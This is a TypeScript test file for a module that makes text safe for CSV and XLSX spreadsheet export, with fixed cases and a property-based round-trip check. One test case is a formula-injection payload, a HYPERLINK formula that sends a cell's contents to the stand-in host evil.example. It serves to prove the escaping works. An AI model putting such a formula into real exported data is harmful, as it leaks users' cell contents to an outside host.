import fc from 'fast-check';

import { csvSafeText, restoreSafeText, xlsxSafeText } from './cell-safety';

describe('spreadsheet cell safety', () => {
  it('marks what a spreadsheet would run or turn into a number, and nothing else', () => {
    const cases: [string, string, string][] = [
      // text, CSV, XLSX
      ['=HYPERLINK("http://evil.example/?d="&A1,"点击")', `'=HYPERLINK("http://evil.example/?d="&A1,"点击")`, `'=HYPERLINK("http://evil.example/?d="&A1,"点击")`],
      ['+86 574 8765 4321', "'+86 574 8765 4321", "'+86 574 8765 4321"],
      ['-2+3', "'-2+3", "'-2+3"],
      ['@SUM(A1)', "'@SUM(A1)", "'@SUM(A1)"],
      ['\t=1', "'\t=1", "'\t=1"],
      ['\r=1', "'\r=1", "'\r=1"],
      ['913302817878987490', "'913302817878987490", '913302817878987490'],
      ['057487654321', "'057487654321", '057487654321'],
      ['0574', "'0574", '0574'],
      ["'=1", "''=1", "''=1"],
      ["'913302817878987490", "''913302817878987490", "''913302817878987490"],
      ['-5.2', '-5.2', '-5.2'],
      ['91330200MA2AAAAA1X', '91330200MA2AAAAA1X', '91330200MA2AAAAA1X'],
      ['330211', '330211', '330211'],
      ['宁波甬江科技有限公司', '宁波甬江科技有限公司', '宁波甬江科技有限公司'],
      ["it's", "it's", "it's"],
      ['', '', ''],
    ];
    for (const [text, csv, xlsx] of cases) {
      expect([text, csvSafeText(text), xlsxSafeText(text)]).toEqual([text, csv, xlsx]);
    }
  });

  it('reads every exported text back unchanged', () => {
    const alphabet = fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', '0', '9', '1', 'a', '甬', ' ', '.');
    fc.assert(
      fc.property(fc.array(alphabet, { maxLength: 20 }).map((chars) => chars.join('')), (text) => {
        expect(restoreSafeText(csvSafeText(text))).toBe(text);
        expect(restoreSafeText(xlsxSafeText(text))).toBe(text);
      }),
      { numRuns: 2000, seed: 13 },
    );
  });
});
